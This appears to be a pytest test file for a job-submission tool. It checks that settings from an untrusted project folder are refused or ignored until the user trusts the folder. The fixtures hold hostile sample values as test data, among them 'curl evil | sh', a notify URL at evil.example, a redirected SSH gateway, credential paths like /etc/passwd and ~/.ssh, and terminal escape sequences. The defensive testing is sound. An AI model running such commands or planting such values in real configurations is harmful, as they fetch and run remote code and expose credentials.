"""Settings of a project folder from somebody else affect only jobs, unless the user trusts the folder."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
import yaml

from openpai_tasks.errors import ConfigError, PaiError, PathError
from openpai_tasks.magics import submit_cell
from openpai_tasks.magics.commands import Failed, settings
from openpai_tasks.settings.config import VARIABLES, Settings, change_defaults
from openpai_tasks.settings.trust import UntrustedSettings
from openpai_tasks.storage.job_files.sources import collect
from tests.e2e.test_container import open_terminal
from tests.scripted import Scripted

OWN = ".openpai/defaults.yaml"
BOOK = ".openpai/clusters.yaml"

FAR = {
    "python": "/bin/evil",
    "clusters-in-local": True,
    "editor": "/bin/evil",
    "local.enforce": "true",
    "local.body-limit": 9999,
    "local.keep": "1",
    "local.engine": "docker",
    "local.profile": "0.14",
    "local.kubernetes-context": "evil",
    "local.kubernetes-gang": "volcano",
    "local.kubernetes-gpu-resource": "evil/gpu",
    "local.kubernetes-gpu-type-label": "evil",
    "local.kubernetes-kubeconfig": "/home/mallory/config",
    "local.kubernetes-namespace": "mallory",
    "local.kubernetes-node-selector": "evil=yes",
    "local.kubernetes-priority-class": "evil",
    "local.kubernetes-priority-classes": "low=evil",
    "local.kubernetes-pull-secrets": "evil",
    "local.kubernetes-service-account": "admin",
    "local.kubernetes-storages": "home=host:/",
    "local.kubernetes-tolerations": "evil",
    "local.slurm-high-qos": "evil",
    "local.slurm-images": "podman",
    "local.slurm-options": "--account=mallory",
    "local.ssh": "off",
    "ssh.key": "~/.ssh/id_rsa",
    "ssh.user": "mallory",
    "ssh.timeout": 99.0,
    "ssh.gateway": "mallory@evil.example:22",
    "ssh.gateway-key": "~/.ssh/id_rsa",
    "container.engine": "podman",
    "storage.mounts": ["lab/home=/home"],
    "notify": ["https://evil.example/secret", {"command": "curl evil | sh"}],
}
SHOWN = {"notify": "post to evil.example on end, command 'curl evil | sh' on end"}


@pytest.fixture
def home(tmp_path):
    return tmp_path / "home"


def value(project, name):
    """The effective value of a setting."""
    rows = json.loads(project.pai("config.show", "-o", "json").out)
    return next(row["value"] for row in rows if row["name"] == name)


def assert_refused(ran, *words):
    assert (ran.code, ran.out, ran.err.count("\n")) == (120, "", 1), ran
    assert ran.err.startswith("error: ")
    for word in (*words, "config.trust`"):
        assert word in ran.err, ran.err


# Which settings apply


def test_settings_that_need_trust_are_exactly_the_expected_ones():
    assert {name for name, variable in VARIABLES.items() if variable.reach == "far"} == set(FAR)
    assert {name for name, variable in VARIABLES.items() if variable.reach == "outside"} == {"sources"}


@pytest.mark.parametrize("name", FAR)
@pytest.mark.parametrize("file", ["invoke.yaml", "invoke.json", OWN])
def test_setting_that_affects_more_than_a_job_is_refused(project, name, file):
    section = {name: FAR[name]}
    text = json.dumps(section if file == OWN else {"openpai": section})
    project.write(file, text)
    shown = str(FAR[name]).lower() if isinstance(FAR[name], bool) else str(FAR[name]).strip("[']")
    shown = SHOWN.get(name, shown)
    assert_refused(project.pai("cluster.list"), f"{project.folder}/{file} sets {name}={shown};")
    own = json.loads(json.dumps(VARIABLES[name].default))
    assert value(project, name) == own


@pytest.mark.parametrize(
    "spelling", ["local: {profile: 0.14}", "LOCAL_Profile: '0.14'", "lo-cal.pro_file: 0.14"]
)
def test_another_spelling_does_not_bypass_the_check(project, home, spelling):
    project.write(OWN, spelling)
    assert_refused(project.pai("cluster.start"), "local.profile=0.14")
    assert not (home / "local").exists()


def test_setting_that_affects_only_a_job_always_applies(project):
    project.write("train.py", "")
    project.write("invoke.yaml", "openpai: {image: theirs, gpu: 3, sources: [train.py, .], output: csv}\n")
    project.write(OWN, "memoryMB: 512\n")
    assert project.pai("cluster.list").code == 0
    assert [value(project, name) for name in ("image", "gpu", "memoryMB", "sources")] == [
        "theirs",
        3,
        512,
        ["train.py", "."],
    ]


def test_a_file_turns_on_debug_output_in_the_home_and_in_trusted_projects(shell):
    """Invoke prints its settings then, and passwords may be among them."""
    shell.environment["INVOKE_SUDO_PASSWORD"] = "hunter2"
    (shell.project / ".openpai").mkdir()
    file, on = shell.project / ".openpai" / "debug_enable", "debug output is on because of"
    file.write_text("")
    ran = shell.pai("cluster.list")
    assert ran.err.startswith(f"{file} is ignored: the folder is not trusted;") and "hunter2" not in ran.err
    assert ran.err.count("\n") == 1
    assert f"trusted: debug output (-d) ({file})" in shell.pai("config.trust").err
    ran = shell.pai("cluster.list")
    assert ran.code == 0 and ran.err.count(f"{on} {file}; remove the file to turn it off\n") == 1
    assert "invoke.config.merge" in ran.err
    file.unlink()
    assert shell.pai("cluster.list").err == ""
    (shell.home / "debug_enable").write_text("")
    assert f"{on} {shell.home / 'debug_enable'};" in shell.pai("cluster.list").err


def test_the_users_own_files_variables_and_tasks_need_no_trust(project, home, monkeypatch, tmp_path):
    home.mkdir()
    (home / "defaults.yaml").write_text("python: own\n")
    (tmp_path / "user").mkdir()
    (tmp_path / "user" / ".invoke.yaml").write_text("openpai: {ssh: {user: me}}\n")
    project.write("tasks.py", "from openpai_tasks.tasks import namespace\nns = namespace(editor='vi')\n")
    project.write("other.yaml", "openpai: {local: {ssh: sshd}}\n")
    monkeypatch.setenv("INVOKE_OPENPAI_LOCAL_ENGINE", "podman")
    ran = project.inv("-f", "other.yaml", "config.show", "-o", "json")
    found = {row["name"]: row["value"] for row in json.loads(ran.out)}
    names = ("python", "ssh.user", "editor", "local.engine", "local.ssh")
    assert [found[name] for name in names] == ["own", "me", "vi", "podman", "sshd"]
    assert "not trusted" not in ran.err


def test_nothing_is_refused_in_the_users_home_settings_folder(project, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENPAI_HOME", str(project.folder / ".openpai"))
    project.write(OWN, "python: own\n")
    assert value(project, "python") == "own"


# Sources


@pytest.mark.parametrize(
    "source", ["/etc/passwd", "../x", "a/../../x", "~/.ssh", "out", "inner/out/deep", ".git/config", OWN, "/"]
)
def test_source_outside_the_folder_is_refused(project, tmp_path, source):
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "deep").write_text("secret")
    (project.folder / "inner").mkdir()
    (project.folder / "out").symlink_to("../x")
    (project.folder / "inner" / "out").symlink_to(tmp_path / "x")
    project.write("invoke.yaml", json.dumps({"openpai": {"sources": ["ok", source]}}))
    assert_refused(project.pai("cluster.list"), f"sources={source}")
    assert value(project, "sources") == []


def test_source_inside_the_folder_is_accepted_in_any_notation(project):
    project.write("a/b.py", "")
    (project.folder / "link").symlink_to("a")
    inside = ["a", "./a/../a/b.py", "link/b.py", str(project.folder / "a"), "not-there-yet"]
    project.write(OWN, json.dumps({"sources": inside}))
    assert value(project, "sources") == inside


def test_relative_source_starts_at_the_working_directory(project, monkeypatch):
    project.write("invoke.yaml", "openpai: {sources: [../lib]}\n")
    project.write("sub/x", "")
    assert_refused(project.pai("cluster.list"), "sources=../lib")
    monkeypatch.chdir(project.folder / "sub")
    assert project.pai("cluster.list").code == 0


def test_symlinks_in_sources_are_followed_only_if_the_user_typed_the_sources(project, tmp_path, monkeypatch):
    (tmp_path / "secret").write_text("key")
    project.write("src/train.py", "")
    (project.folder / "src" / "key").symlink_to(tmp_path / "secret")
    project.write(OWN, "sources: [src]\npython: one\n")
    with pytest.raises(UntrustedSettings):
        Settings.load()
    project.pai("config.trust")
    for _ in range(2):
        with pytest.raises(PathError, match=r"src/key leads to .*secret"):
            collect(Settings.load().sources, project.folder)
        project.write(OWN, "sources: [src]\n")
    row = next(row for row in json.loads(project.pai("config.show", "-o", "json").out) if "within" in row)
    assert (row["name"], row["within"]) == ("sources", str(project.folder))
    assert len(collect(Settings.load(None, {"sources": ["src"]}).sources, project.folder).files) == 2
    assert project.pai("config.set", "sources=src").code == 0
    assert len(collect(Settings.load().sources, project.folder).files) == 2


# Trusting a folder


def test_trust_is_for_the_content_and_a_change_needs_new_trust(project):
    project.write(OWN, "python: one\nimage: a\n")
    assert project.pai("config.trust").code == 0
    assert value(project, "python") == "one"
    project.write(OWN, "python: one\nimage: b\ngpu: 2\n")
    assert project.pai("cluster.list").code == 0
    project.write(OWN, "python: two\nimage: b\n")
    assert_refused(project.pai("cluster.list"), "python=two")
    assert value(project, "python") == "python3"
    project.write(OWN, "python: one\neditor: evil\n")
    ran = project.pai("cluster.list")
    assert_refused(ran, "editor=evil")
    assert "python" not in ran.err


def test_changed_symlink_target_needs_new_trust(project, tmp_path):
    for name in ("data", "secrets"):
        (tmp_path / name).mkdir()
    (project.folder / "link").symlink_to(tmp_path / "data")
    project.write(OWN, "sources: [link]\n")
    project.pai("config.trust")
    assert project.pai("cluster.list").code == 0
    (project.folder / "link").unlink()
    (project.folder / "link").symlink_to(tmp_path / "secrets")
    assert_refused(project.pai("cluster.list"), str(tmp_path / "secrets"))


def test_trust_command_shows_what_it_trusts_and_its_file_is_private(project, home):
    project.write(OWN, "python: one\n")
    ran = project.pai("config.trust")
    assert ran.err == f"trusted: python=one ({project.folder}/{OWN})\n"
    assert stat.S_IMODE((home / "trust.yaml").stat().st_mode) == 0o600
    assert list(yaml.safe_load((home / "trust.yaml").read_text())) == [str(project.folder)]
    assert f"trusted: {project.folder}\n" in project.pai("config.show").err


def test_untrust_command_ends_the_trust(project):
    project.write(OWN, "python: one\n")
    project.pai("config.trust")
    assert project.pai("config.untrust").err == f"no longer trusted: {project.folder}\n"
    assert project.pai("config.untrust").err == f"{project.folder} was not trusted\n"
    assert_refused(project.pai("cluster.list"), "python=one")


def test_another_folder_can_be_trusted_by_its_name(project, tmp_path, monkeypatch):
    other = tmp_path / "other"
    (other / ".openpai").mkdir(parents=True)
    (other / OWN).write_text("sources: [../common]\npython: one\n")
    assert project.pai("config.trust", str(other)).code == 0
    monkeypatch.chdir(other)
    assert project.pai("cluster.list").code == 0
    monkeypatch.chdir(project.folder)
    assert project.pai("config.untrust", "../other").err == f"no longer trusted: {project.folder}/../other\n"
    ran = project.pai("config.trust", "nowhere")
    assert (ran.code, ran.err) == (120, "error: no such folder: 'nowhere'\n")


def test_trust_command_reports_when_nothing_needs_trust(project):
    project.write(OWN, "image: x\n")
    assert project.pai("config.trust").err == f"nothing in {project.folder} needs trust\n"


def test_trust_in_a_subfolder_includes_the_invoke_yaml_above(project, monkeypatch):
    project.write("invoke.yaml", "openpai: {python: one}\n")
    project.write(f"sub/{OWN}", "editor: vi\n")
    monkeypatch.chdir(project.folder / "sub")
    assert_refused(project.pai("cluster.list"), "python=one", "editor=vi")
    assert project.pai("config.trust").code == 0
    assert project.pai("cluster.list").code == 0


def test_trusted_folder_that_is_moved_is_not_trusted(project, tmp_path, monkeypatch):
    project.write(OWN, "python: one\n")
    project.pai("config.trust")
    project.folder.rename(tmp_path / "moved")
    monkeypatch.chdir(tmp_path / "moved")
    assert_refused(project.pai("cluster.list"), "python=one")


def test_invalid_trust_file_is_a_one_line_error(project, home):
    project.write(OWN, "python: one\n")
    for text in ("[", "- a\n", "a: b\n", "a: {b: c}\n"):
        home.mkdir(exist_ok=True)
        (home / "trust.yaml").write_text(text)
        ran = project.pai("cluster.list")
        assert (ran.code, ran.err.count("\n")) == (120, 1)
        assert ran.err.startswith(f"error: cannot read {home}/trust.yaml; fix it, or remove it")


# What the user types needs no trust


def test_config_set_needs_no_trust(project, tmp_path):
    assert project.pai("config.set", "python=mine", "sources=../x,a", "local.engine=docker").code == 0
    assert project.pai("cluster.list").code == 0
    assert value(project, "python") == "mine"
    assert project.pai("config.set", "python=other").code == 0
    assert project.pai("config.unset", "local.engine").code == 0
    assert (value(project, "python"), value(project, "sources")) == ("other", ["../x", "a"])


def test_config_set_does_not_trust_what_came_with_the_folder(project):
    project.write(OWN, "editor: evil\nsources: [/etc/passwd]\n")
    assert project.pai("config.set", "python=mine").code == 0
    ran = project.pai("cluster.list")
    assert_refused(ran, "editor=evil", "sources=/etc/passwd")
    assert "python" not in ran.err
    assert value(project, "python") == "mine"


def test_a_cluster_that_the_user_adds_to_a_folder_needs_no_trust(project):
    assert project.pai("config.set", "clusters-in-local=true").code == 0
    for alias in ("lab", "other"):
        added = ("cluster.add", alias, f"http://{alias}.example", "--user", "me", "--no-check")
        assert project.pai(*added).code == 0
    assert project.pai("cluster.select", "lab").code == 0
    assert project.pai("cluster.delete", "other").code == 0
    ran = project.pai("cluster.list")
    assert ran.code == 0 and "http://lab.example" in ran.out


def test_clusters_that_came_with_a_folder_are_refused_despite_clusters_in_local(project):
    project.write(BOOK, "- {cluster_alias: lab, pai_uri: 'http://evil.example', user: ann}\n")
    project.pai("config.set", "-g", "clusters-in-local=true")
    assert_refused(
        project.pai("cluster.list"), f"{project.folder}/{BOOK} sets cluster lab (http://evil.example"
    )
    assert_refused(project.pai("cluster.add", "new", "http://new.example", "--no-check"), "cluster lab")


# The theft of a password


@pytest.fixture
def evil():
    server = Scripted({})
    yield server
    server.close()


@pytest.mark.parametrize("key", ["prefix", "pai_uri", "ca"])
def test_folder_cannot_get_the_stored_password_of_a_cluster(project, home, evil, monkeypatch, key):
    record = {"cluster_alias": "lab", "pai_uri": "http://pai.example.org", "user": "ann"}
    home.mkdir()
    (home / "clusters.yaml").write_text(yaml.safe_dump([{**record, "password": "secret"}]))
    record[key] = {"prefix": f"@127.0.0.1:{evil.port}", "pai_uri": evil.uri, "ca": "ca.pem"}[key]
    project.write(BOOK, yaml.safe_dump([record]))
    project.write(OWN, "clusters-in-local: true\ncluster-alias: lab\n")
    monkeypatch.setenv("OPENPAI_PASSWORD", "lent")
    for words in (["job.list"], ["cluster.info"], ["storage.list"], ["cluster.update"], ["job.sub", "true"]):
        assert_refused(project.pai(*words), "clusters-in-local=true", "cluster lab", record[key])
    assert evil.seen == []


@pytest.mark.parametrize("key, other", [("prefix", "/x"), ("user", "bob"), ("ca", "b.pem"), ("new", "x")])
def test_changed_cluster_record_needs_new_trust(project, key, other):
    record = {"cluster_alias": "lab", "pai_uri": "http://a.example", "user": "ann", "info": {"a": 1}}
    project.write(OWN, "clusters-in-local: true\n")
    project.write(BOOK, yaml.safe_dump([record]))
    project.pai("config.trust")
    project.write(BOOK, yaml.safe_dump([{**record, "info": {"a": 2}, "workspace": "w"}]))
    assert project.pai("cluster.list").code == 0
    project.write(BOOK, yaml.safe_dump([{**record, key: other}]))
    assert_refused(project.pai("cluster.list"), "cluster lab")


def test_changed_ca_content_needs_new_trust(project):
    project.write("ca.pem", "one")
    project.write(OWN, "clusters-in-local: true\n")
    project.write(BOOK, "- {cluster_alias: lab, pai_uri: 'https://a.example', ca: ../ca.pem}\n")
    project.pai("config.trust")
    assert project.pai("cluster.list").code == 0
    project.write("ca.pem", "two")
    assert_refused(project.pai("cluster.list"), "ca ../ca.pem")


@pytest.mark.parametrize(
    "text", ["[", "a: b\n", "- 3\n", "- &a [*a]\n", "- {cluster_alias: [x], pai_uri: {}}\n"]
)
def test_invalid_clusters_file_is_refused_too(project, text):
    project.write(OWN, "clusters-in-local: true\n")
    project.write(BOOK, text)
    assert_refused(project.pai("cluster.list"), "clusters.yaml sets cluster")


# OPENPAI_TRUST


def test_trust_variable_covers_a_folder_and_everything_below(project, monkeypatch, tmp_path, home):
    project.write(OWN, "python: one\n")
    for folder, code in ((project.folder, 0), (tmp_path, 0), (tmp_path / "other", 120), ("/etc", 120)):
        monkeypatch.setenv("OPENPAI_TRUST", f"{folder}{os.pathsep}/nowhere")
        assert project.pai("cluster.list").code == code, folder
    assert not (home / "trust.yaml").exists()


def test_trust_by_the_variable_is_not_saved(project, monkeypatch):
    project.write(OWN, "clusters-in-local: true\n")
    project.write(BOOK, "- {cluster_alias: lab, pai_uri: 'http://a.example'}\n")
    monkeypatch.setenv("OPENPAI_TRUST", str(project.folder))
    added = ("cluster.add", "lab", "http://a.example", "--user", "ann", "--no-check")
    assert project.pai(*added).code == 0
    monkeypatch.delenv("OPENPAI_TRUST")
    assert_refused(project.pai("cluster.list"), "clusters-in-local=true", "cluster lab")


def test_trust_variable_needs_absolute_paths(project, monkeypatch):
    project.write(OWN, "python: one\n")
    monkeypatch.setenv("OPENPAI_TRUST", ".")
    ran = project.pai("cluster.list")
    assert (ran.code, ran.err) == (
        120,
        "error: OPENPAI_TRUST needs absolute paths, got '.'; try `export OPENPAI_TRUST=$PWD`\n",
    )


# Messages


def test_the_hint_names_the_program_that_was_called(project):
    project.write("tasks.py", "from openpai_tasks.tasks import namespace\nns = namespace()\n")
    project.write("invoke.yaml", "openpai: {python: one}\n")
    assert project.inv("cluster.list").err.endswith("needs a trusted folder: `inv config.trust` trusts it\n")
    assert project.pai("cluster.list").err.endswith("needs a trusted folder: `pai config.trust` trusts it\n")


def test_settings_of_a_folder_cannot_control_the_terminal(project):
    text = "evil\x1b[2J\r\u202etxt\u200b\x9b"
    project.write(OWN, yaml.safe_dump({"python": text, "clusters-in-local": True, "sources": [f"../{text}"]}))
    project.write(BOOK, yaml.safe_dump([{"cluster_alias": text, "pai_uri": text, "user": text, "ca": text}]))
    for words in (["cluster.list"], ["config.show"], ["config.trust"]):
        message = project.pai(*words).err
        assert all(char.isprintable() or char == "\n" for char in message), message


def test_very_long_value_is_truncated_in_the_error(project):
    project.write(OWN, f"python: {'x' * 100_000}\n")
    assert len(project.pai("cluster.list").err) < 2000


def test_config_show_reports_ignored_settings(project):
    project.write(OWN, "python: evil\nimage: theirs\n")
    ran = project.pai("config.show", "-o", "json")
    rows = {row["name"]: row for row in json.loads(ran.out)}
    assert rows["python"]["value"] == "python3" and rows["python"]["origin"] == "built-in"
    assert rows["python"]["not_trusted"] == [f"{project.folder}/{OWN} sets python=evil"]
    assert rows["image"]["value"] == "theirs" and "not_trusted" not in rows["image"]
    assert ran.err == f"ignored, not trusted: python=evil ({project.folder}/{OWN})\n"


@pytest.mark.parametrize(
    "words",
    [
        ["--list"],
        ["--help"],
        ["--help", "job.sub"],
        ["--print-completion-script", "bash"],
        ["--complete", "--", "pai", "config"],
        ["config.completion", "bash"],
        ["cluster.status"],
        ["job.templates"],
    ],
)
def test_commands_that_need_no_such_setting_are_never_refused(project, words):
    project.write(OWN, "python: evil\nclusters-in-local: true\n")
    ran = project.pai(*words)
    assert ran.code == 0 and "trust" not in ran.err


# From Python


def test_python_program_is_refused_untrusted_settings(project):
    project.write(OWN, "storage.mounts: [lab/home=/home]\n")
    with pytest.raises(UntrustedSettings, match=r"storage\.mounts=lab/home=/home; .*`pai config\.trust`"):
        Settings.load()
    with pytest.raises(ConfigError):
        from openpai_tasks.sdk.files.paifs import PaiFileSystem

        PaiFileSystem(skip_instance_cache=True).ls("pai://lab/home")
    change_defaults(project.folder / OWN, {"storage.mounts": ("lab/home=/home",)})
    assert Settings.load().storage_mounts == ("lab/home=/home",)


def test_notebook_is_refused_untrusted_settings(project):
    project.write("invoke.yaml", "openpai: {python: evil}\n")
    with pytest.raises(Failed, match=r"invoke\.yaml sets python=evil; .*`%pai config\.trust`"):
        settings()
    project.write("invoke.yaml", "openpai: {image: theirs}\n")
    project.write(OWN, "clusters-in-local: true\n")
    with pytest.raises(PaiError, match="clusters-in-local=true"):
        settings()


def test_cell_job_does_not_follow_a_symlink_out_of_the_project(project, tmp_path, home):
    (tmp_path / "secret").write_text("key")
    project.write("src/train.py", "")
    (project.folder / "src" / "key").symlink_to(tmp_path / "secret")
    project.write("invoke.yaml", "openpai: {sources: [src]}\n")
    with pytest.raises(PathError, match="src/key leads to"):
        submit_cell([], "print(1)", str, print)
    assert not (home / "local").exists()


# At a terminal


@pytest.mark.parametrize(
    ("keys", "code"),
    [(b"\r", 120), (b"n\r", 120), (b"what\r", 120), (b"\x04", 120), (b"\x03", 130)],
    ids=["return", "no", "other", "end", "ctrl-c"],
)
def test_any_answer_but_yes_at_the_prompt_means_no(shell, keys, code):
    (shell.project / "invoke.yaml").write_text('openpai: {python: "one\\e[2J", image: x}\n')
    with open_terminal(shell, "inv", "cluster.list") as terminal:
        shown = terminal.until(b"trust this folder? [y/N] ")
        terminal.type(keys)
        assert terminal.code() == code
        shown += terminal.rest()
    words = b" ".join(shown.split())  # wrapped, as the path is long
    assert f"{shell.project}/invoke.yaml sets: python=one\\x1b[2J ".encode() in words
    assert (b"`inv config.trust`" in shown) is (code == 120)
    assert b"\x1b" not in shown and b"ALIAS" not in shown
    assert not (shell.home / "trust.yaml").exists()


def test_yes_at_the_prompt_is_remembered_until_a_setting_changes(shell):
    (shell.project / "invoke.yaml").write_text("openpai: {python: one, editor: vi}\n")
    with open_terminal(shell, "pai", "cluster.list") as terminal:
        terminal.until(b"trust this folder? [y/N] ")
        terminal.type(b"y\r")
        assert terminal.code() == 0
        assert b"ALIAS" in terminal.rest()
    assert shell.ok("cluster.list").err == ""
    (shell.project / "invoke.yaml").write_text("openpai: {python: two, editor: vi}\n")
    with open_terminal(shell, "pai", "cluster.list") as terminal:
        shown = terminal.until(b"trust this folder? [y/N] ")
        assert b"  python=two\r\n" in shown and b"editor" not in shown


def test_documentation_names_every_setting_that_needs_trust():
    page = (Path(__file__).parent.parent.parent / "docs" / "settings.md").read_text()
    section = page.partition("## Settings that need trust")[2].partition("\n## ")[0]
    for name in (*FAR, "sources"):
        assert f"`{name}`" in section, name
